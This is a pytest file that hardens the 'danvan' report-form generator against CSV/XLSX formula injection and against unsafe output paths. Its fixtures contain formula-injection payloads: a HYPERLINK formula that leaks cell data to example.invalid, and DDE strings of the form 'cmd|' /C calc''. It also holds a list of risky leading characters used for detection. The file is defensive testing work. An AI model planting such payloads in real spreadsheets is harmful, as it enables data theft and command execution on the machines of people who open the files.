"""Hardening, generated forms (issue cases 4, 6j, 6k, 7b): formula-safe text in every cell danvan
writes, and `danvan form --out` that never overwrites, never writes into a directory, and fails
cleanly where it cannot write.

Assumed: `danvan form --force` overwrites an existing file on purpose.
"""

from __future__ import annotations

import csv
import hashlib
import re
import shutil
from pathlib import Path

import pytest

from _hardening import BASE_XLSX, EXIT_FAULT, EXIT_USAGE, READ_ONLY, UNIT, assert_clean, read_only_dir, run_main
from danvan.intake.importer import check_files, format_outcomes

RISKY = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")

# a registry (the shipped layout: tools and tests build registries of their own with
# UnitRegistry.from_csv) whose unit names are spreadsheet formulas
REGISTRY_CSV = (
    "code,name,type,parent_code,level,valid_from,valid_to,successor_code,source\n"
    '99001,"=HYPERLINK(""http://example.invalid/?d=""&B2,""Phường Mẫu"")",Phường,474,commune,,,,test\n'
    "99002,+cmd|' /C calc'!A0,Phường,474,commune,,,,test\n"
    "99003,@SUM(1+1)*cmd|' /C calc'!A0,Phường,474,commune,,,,test\n"
    "99004,-2+3+cmd|' /C calc'!A0,Phường,474,commune,,,,test\n"
)
CATALOGUE_YAML = """catalogue: test-formulas
version: "1"
sections:
  - {code: X_F, part: "II", title: "=1+2", after: "II.5"}
indicators:
  - {code: X_F_A, label: "=SUM(1+1)*cmd|' /C calc'!A0", unit: "@SUM(1)", section: X_F, kind: count}
  - {code: X_F_B, label: "-2+3", unit: "\\tkg", section: X_F, kind: count}
  - {code: X_F_C, label: "\\r=1+1", unit: "+1", section: X_F, kind: count, required: true}
"""


@pytest.fixture
def hostile(tmp_path):
    """A registry with formula-like unit names and a catalogue with formula-like titles, labels, units."""
    from danvan.reference.catalogue import load_catalogue
    from danvan.reference.units import UnitRegistry, load_registry

    units = tmp_path / "registry-hostile.csv"
    units.write_text(REGISTRY_CSV, encoding="utf-8")
    cat = tmp_path / "catalogue-hostile.yaml"
    cat.write_text(CATALOGUE_YAML, encoding="utf-8")
    reg = UnitRegistry(load_registry().units + UnitRegistry.from_csv(units).units, ["test"])
    return reg, load_catalogue(str(cat))


def test_a_user_unit_file_cannot_bring_a_formula_name(tmp_path, capsys):
    """A user unit's name starts with its type (docs/units.md), so the CLI's --units cannot bring one."""
    units = tmp_path / "units.csv"
    units.write_text("code,name,type,parent_code,valid_from,valid_to,successor_code,source\n"
                     "19780-91,=1+1,Tổ dân phố,19780,2020-01-01,,,test\n", encoding="utf-8")
    rc, o, e = run_main(["units", "--units", units, "--search", "x"], capsys)
    assert rc == EXIT_USAGE and "units.csv, dòng 2, cột name" in e


def _risky(text) -> bool:
    return isinstance(text, str) and text[:1] in RISKY and not _NUMBER.match(text)


def _unsafe_xlsx_cells(path: Path) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    bad.append(f"{ws.title}!{c.coordinate} formula {c.value!r}")
                elif _risky(c.value) and not c.quotePrefix:
                    bad.append(f"{ws.title}!{c.coordinate} text {c.value!r} without a quote prefix")
    return bad


@pytest.mark.parametrize("unit", ["99001", "99002", "99003", "99004"])
def test_xlsx_form_has_no_live_formulas(unit, hostile, tmp_path, store):
    """Before: the unit name went to C2 as a formula (=HYPERLINK...), a section title and a label to
    column C as formulas; "+", "-", "@", tab and CR starts were written as they are."""
    from danvan.intake.forms import write_form

    reg, cat = hostile
    out = write_form(unit, 2024, tmp_path / "bieu.xlsx", catalogue=cat, registry=reg, db=store.path)
    assert _unsafe_xlsx_cells(out) == []


def test_csv_form_has_no_formula_fields_and_still_imports(hostile, tmp_path, store):
    from danvan.intake.forms import write_form

    reg, cat = hostile
    out = write_form("99001", 2024, tmp_path / "bieu.csv", catalogue=cat, registry=reg, db=store.path)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    bad = [(i, f) for i, r in enumerate(rows, start=1) for f in r if _risky(f)]
    assert bad == [], bad
    # the neutralised helper columns do not stop the filled form from importing
    header = rows[0]
    for r in rows[1:]:
        if r[header.index("indicator")] in ("X_F_A", "X_F_B", "X_F_C"):
            r[header.index("value")] = "7"
    with open(out, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    (oc,) = check_files([out], catalogue=cat, registry=reg)
    assert not [f for f in oc.errors if f.rule != "required_missing"], format_outcomes([oc], wrote=False)


def test_last_year_text_starting_with_a_formula_is_written_as_text(store, tmp_path, capsys):
    """Texts of unit directories are stored without check_text; the form shows them in «Văn bản»!D."""
    store.write_import(file="dir", sha256="x", catalogue_version="t", catalogue_digest="t",
                       texts={(UNIT, 2023, "III"): "=1+1 đánh giá chung"}, by="test")
    out = tmp_path / "bieu.xlsx"
    rc, o, e = run_main(["form", "--unit", UNIT, "--year", "2024", "--out", out, "--db", store.path], capsys)
    assert rc == 0, o + e
    assert _unsafe_xlsx_cells(out) == []


# ---- case 7b: form --out never overwrites ------------------------------------------------------
def test_form_does_not_overwrite_an_existing_file(tmp_path, store, capsys):
    filled = tmp_path / "bieu-da-dien.xlsx"
    shutil.copy(BASE_XLSX, filled)
    digest = hashlib.sha256(filled.read_bytes()).hexdigest()
    rc, out, err = run_main(["form", "--unit", UNIT, "--year", "2024", "--out", filled, "--db", store.path], capsys)
    assert rc == EXIT_USAGE, out + err
    assert str(filled) in err and "--force" in err, err
    assert hashlib.sha256(filled.read_bytes()).hexdigest() == digest, "the filled form was overwritten"
    rc, out, err = run_main(["form", "--unit", UNIT, "--year", "2024", "--out", filled, "--db", store.path,
                             "--force"], capsys)
    assert rc == 0 and hashlib.sha256(filled.read_bytes()).hexdigest() != digest


# ---- cases 6j, 6k: form --out at a directory or an unwritable path -------------------------------------
@pytest.mark.parametrize("name", ["thu-muc", "thu-muc.xlsx"])
@pytest.mark.parametrize("fmt", [None, "csv"])
def test_form_out_is_a_directory(name, fmt, tmp_path, store, capsys):
    d = tmp_path / name
    d.mkdir()
    args = ["form", "--unit", UNIT, "--year", "2024", "--out", d, "--db", store.path]
    if fmt:
        args += ["--format", fmt]
    rc, out, err = run_main(args, capsys)
    assert rc == EXIT_USAGE, out + err
    assert str(d) in err and "thư mục" in err, err
    assert list(d.iterdir()) == []


def test_form_out_under_a_file(tmp_path, store, capsys):
    f = tmp_path / "mot-tep"
    f.write_text("x")
    rc, out, err = run_main(["form", "--unit", UNIT, "--year", "2024", "--out", f / "bieu.xlsx",
                             "--db", store.path], capsys)
    assert rc == EXIT_USAGE and str(f) in err, out + err


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_form_out_on_a_read_only_place(suffix, tmp_path, store, capsys):
    ro = tmp_path / "ro"
    with read_only_dir(ro) as make_ro:
        make_ro()
        target = ro / f"bieu.{suffix}"
        rc, out, err = run_main(["form", "--unit", UNIT, "--year", "2024", "--out", target,
                                 "--db", store.path], capsys)
        assert_clean(out + err)
        assert rc == EXIT_FAULT, out + err
        assert str(target) in err and READ_ONLY.search(err), err
        assert not target.exists()
